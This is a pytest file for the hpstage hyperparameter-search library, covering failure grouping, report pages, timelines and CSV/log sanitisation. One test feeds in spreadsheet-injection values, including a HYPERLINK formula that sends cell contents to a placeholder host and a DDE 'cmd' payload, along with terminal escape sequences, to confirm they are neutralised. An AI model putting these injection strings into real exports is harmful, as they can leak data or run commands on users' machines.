"""Failures in reports: by cause, with a count, however many trials they have failed; none of their text is obeyed."""

from __future__ import annotations

import logging
import math
import re
import time
from collections.abc import Mapping
from itertools import chain
from pathlib import Path

import msgspec
import optuna
import pandas as pd
import pytest

import hpstage
from hpstage import schedule as s
from hpstage.accounting.failures import by_cause, failed_otherwise, failures_of
from hpstage.accounting.tables import cell
from hpstage.accounting.timeline import failures
from hpstage.execution.simulated import SimulatedExecutor
from hpstage.plan.facts import NodeId, StageFailed, TargetAsked, TrialEnded, TrialId, UserFailure, WorkerId
from hpstage.plan.log import read_facts
from hpstage.plan.messages import BoundaryReached, Report
from hpstage.report import open_book, write_report
from hpstage.report.names import worker_names
from hpstage.report.page import best_first
from hpstage.report.pictures import draw_timeline
from hpstage.schedule import Scalar
from hpstage.store.memory import MemoryJournal
from hpstage.testing.toys import Failing
from tests.unit.reports import Page, read, search, write
from tests.unit.searches import Search, trial

pytestmark = pytest.mark.sampled(4)

optuna.logging.set_verbosity(optuna.logging.ERROR)


class Unevaluated(SimulatedExecutor):
    """Workers on which states after the last step cannot be evaluated; one of three lines of code raises."""

    def wait(self, timeout: float | None) -> list[Report]:
        return [self._raised(report) for report in super().wait(timeout)]

    def _raised(self, report: Report) -> Report:
        if not isinstance(report, BoundaryReached) or report.reached.step < 8:
            return report
        node = report.reached.node
        trace = f'Traceback:\n  File "train.py", line {10 + node % 3}, in evaluate\nValueError: no. {node}'
        failure = UserFailure(f"ValueError: no. {node}", trace, ("builtins.ValueError", "builtins.Exception"))
        return BoundaryReached(msgspec.structs.replace(report.reached, metrics=None), failure)


@pytest.mark.ci
def test_a_thousand_failures_are_grouped_by_the_three_lines_that_raised_them(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    def space(trial: optuna.Trial) -> dict[str, s.Schedule]:
        return {"a": s.piecewise({0: 1, 4: trial.number + 2})}

    journal = MemoryJournal()
    with caplog.at_level(logging.WARNING, "hpstage"):
        hpstage.optimize(
            optuna.create_study(study_name="failing"),
            object(),
            space,
            metric="value",
            steps=8,
            n_trials=1000,
            executor=Unevaluated(3, evaluate_seconds=0.5),
            store=journal,
            catch=(Exception,),
        )
    assert sum("Trial" in record.message and "train.py" in record.message for record in caplog.records) == 3
    book = open_book(journal)
    causes = by_cause(failures_of(book))
    assert sorted(len(cause.failures) for cause in causes) == [333, 333, 334]
    assert sum(len(cause.trials) for cause in causes) == 1000 == sum(cause.messages for cause in causes)
    assert failed_otherwise(book, causes) == []
    page = Page(write_report(tmp_path, journal))
    assert "Your code raised an exception 1,000 times, for 3 reasons" in page.text
    assert page.tags.count("details") == 3 + 1  # one of all trials
    assert page.text.count("train.py") == 3
    # On the timeline, each is a mark.
    assert len(list(failures(book))) == 1000
    [legend] = [axes.get_legend() for axes in draw_timeline(book).axes]
    assert legend is not None and "your code raised" in [text.get_text() for text in legend.get_texts()]


def test_failures_are_grouped_by_the_raising_line_or_by_summary_if_there_is_no_traceback() -> None:
    def failed(summary: str, trace: str, evaluating: bool = False) -> tuple[StageFailed, list[TrialId]]:
        return StageFailed(NodeId(0), 4, evaluating, UserFailure(summary, trace)), [TrialId("a/0")]

    there, here = '  File "x.py", line 1, in f\n', '  File "x.py", line 2, in f\n'
    failures = [failed("E: 1", here), failed("E: 2", there + here), failed("E: 1", there), failed("F: 1", here)]
    assert [len(cause.failures) for cause in by_cause(failures)] == [2, 1, 1]
    assert len(by_cause([failed("E: 1", here), failed("E: 1", here, evaluating=True)])) == 2
    assert len(by_cause([failed("E: 1", ""), failed("E: 1", ""), failed("E: 2", "")])) == 2


class FailingLate(Failing):
    """Takes some time before it fails, which is then lost: on a fast machine it would be next to nothing."""

    def train(self, step: int, hp: Mapping[str, Scalar]) -> None:
        time.sleep(0.005)
        super().train(step, hp)


def test_the_timeline_labels_training_before_an_exception_as_failed_and_not_as_thrown_away() -> None:
    journal = MemoryJournal()
    hpstage.optimize(
        optuna.create_study(study_name="raising"),
        FailingLate(),
        lambda trial: {"a": s.piecewise({0: 1, 4: 7}), "b": 1.0},
        metric="score",
        steps=8,
        n_trials=1,
        executor=hpstage.InlineExecutor(),
        store=journal,
        catch=(ArithmeticError,),
    )
    said = {text.get_text() for text in draw_timeline(open_book(journal)).findobj(lambda x: hasattr(x, "get_text"))}
    assert {"failed", "your code raised"} <= said and "discarded" not in said


def test_trials_whose_metric_is_nan_are_named_among_the_failures(tmp_path: Path) -> None:
    journal = MemoryJournal()
    hpstage.optimize(
        optuna.create_study(study_name="nan", sampler=optuna.samplers.RandomSampler(seed=0)),
        object(),
        lambda trial: {"a": trial.number},
        metric="value",
        steps=8,
        n_trials=9,
        executor=SimulatedExecutor(1, measure=lambda key, step: {"value": math.nan if int(key[0], 16) < 6 else 1.0}),
        store=journal,
    )
    failed = [fact.trial for fact in read_facts(journal) if isinstance(fact, TrialEnded) and fact.state == "FAIL"]
    assert 0 < len(failed) < 9
    text = Page(write_report(tmp_path, journal)).text
    numbers = ", ".join(sorted(id.rpartition("/")[2] for id in failed))
    some = "1 trial" if len(failed) == 1 else f"{len(failed)} trials"
    assert f"{some} failed without an exception, for example because a metric is NaN (trial" in text and numbers in text


def test_csv_cells_contain_no_control_characters_and_no_spreadsheet_formulas(tmp_path: Path) -> None:
    names = {
        'a "quoted", name': 'a "quoted", name',
        "模型🙂": "模型🙂",
        "-1.5e3": "-1.5e3",
        "a=1": "a=1",
        '=HYPERLINK("http://x/"&A1)': '\'=HYPERLINK("http://x/"&A1)',
        "@SUM(1)": "'@SUM(1)",
        "+1+1": "'+1+1",
        "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
        "\t=1": "\\t=1",
        "\r=1": "\\r=1",
        "line\nend": "line\\nend",
        "\x1b]0;title\x07": "\\x1b]0;title\\x07",
        "\x00": "\\x00",
        "\x9b31m": "\\x9b31m",
        "\u202e": "\\u202e",
    }

    def space(trial: optuna.Trial) -> dict[str, object]:
        return {"a": trial.suggest_categorical("a", list(names)), "b": trial.suggest_categorical('b"\r', list(names))}

    journal = MemoryJournal()
    study = optuna.create_study(
        study_name="=line\rend", sampler=optuna.samplers.GridSampler({"a": list(names), 'b"\r': ["a=1"]}, seed=0)
    )
    options = {
        "metric": "value",
        "steps": 2,
        "n_trials": len(names),
        "executor": SimulatedExecutor(1),
        "store": journal,
    }
    hpstage.optimize(study, object(), space, **options)  # type: ignore[arg-type]
    write_report(tmp_path, journal)
    assert (tmp_path / "workers.csv").read_bytes().count(b"\r") == 0, "rows end as on Unix"
    assert not re.search(rb"[\x00-\x09\x0b-\x1f\x7f]", (tmp_path / "trials.csv").read_bytes())
    table = pd.read_csv(tmp_path / "trials.csv", dtype=str)
    for rows in (read(tmp_path / "trials.csv"), table.to_dict("records")):
        assert [row["params_a"] for row in rows] == [names[t.params["a"]] for t in study.trials]
        assert {row['params_b"\\r'] for row in rows} == {"a=1"}
        assert {row["study"] for row in rows} == {"'=line\\rend"}


def test_numbers_and_lone_surrogates_in_csv_cells_are_not_quoted_as_formulas() -> None:
    assert [cell(value) for value in (-1.5, -math.inf, None, True, -3, "+1", "-inf", "-")] == [
        -1.5, -math.inf, None, True, -3, "+1", "-inf", "'-"
    ]  # fmt: skip
    assert cell("\udce9=1") == "\\udce9=1"


def test_messages_of_exceptions_are_logged_without_escape_sequences(caplog: pytest.LogCaptureFixture) -> None:
    def train(run: hpstage.Run) -> None:
        raise ValueError("\x1b[31mred\x07 \r\x1b]0;title\x07")

    with caplog.at_level(logging.WARNING, "hpstage"):
        hpstage.optimize(
            optuna.create_study(study_name="logged"),
            train,
            lambda trial: {"a": 1},
            metric="value",
            steps=2,
            n_trials=1,
            executor=hpstage.InlineExecutor(),
            store=MemoryJournal(),
            catch=(ValueError,),
        )
    assert "\\x1b[31mred\\x07" in caplog.text
    assert not any(ord(c) < 32 and c != "\n" for c in caplog.text)


def test_trials_with_the_same_training_are_listed_once_among_the_best_trials(tmp_path: Path) -> None:
    journal = MemoryJournal()
    result = search(journal, n_trials=24)
    groups = best_first(open_book(journal))
    values = {t.number: t.value for t in result.study.trials if t.state.name == "COMPLETE"}
    numbers = [[int(id.rpartition("/")[2]) for id in group] for group in groups]
    assert sorted(chain.from_iterable(numbers)) == sorted(values)
    assert [values[group[0]] for group in numbers] == sorted({values[n] for n in values}, reverse=True)
    assert any(len(group) > 1 for group in numbers)
    page = Page(write_report(tmp_path, journal))
    header = next(i for i, row in enumerate(page.rows) if row and row[0] == "Trial")
    assert [row[0].split()[0] for row in page.rows[header + 1 : header + 1 + len(numbers[:10])]] == [
        str(group[0]) for group in numbers[:10]
    ]


def test_workers_are_named_by_host_and_number_in_the_order_given() -> None:
    addresses = ["tcp://10.0.0.3:41", "tls://[::1]:9", "tcp://10.0.0.3:7", "worker-1", "tcp://10.0.0.3:41", "a\x1b:b"]
    addresses.append("inproc://10.0.0.3/24/1")
    assert list(worker_names(map(WorkerId, addresses)).values()) == [
        "10.0.0.3 #1",
        "[::1] #1",
        "10.0.0.3 #2",
        "worker-1",
        "a\\x1b:b",
        "10.0.0.3 #3",
    ]


@pytest.mark.ci
def test_a_plan_with_only_failures_has_a_report_page(tmp_path: Path) -> None:
    run = Search(SimulatedExecutor(1))
    run.driver.add([trial(0, {"a": s.constant(1)}, 8)])
    write(run.journal, TargetAsked(TrialId("study/0"), 8), StageFailed(NodeId(0), 2, False, UserFailure("", "")))
    assert "Your code raised an exception 1 time." in Page(write_report(tmp_path, run.journal)).text
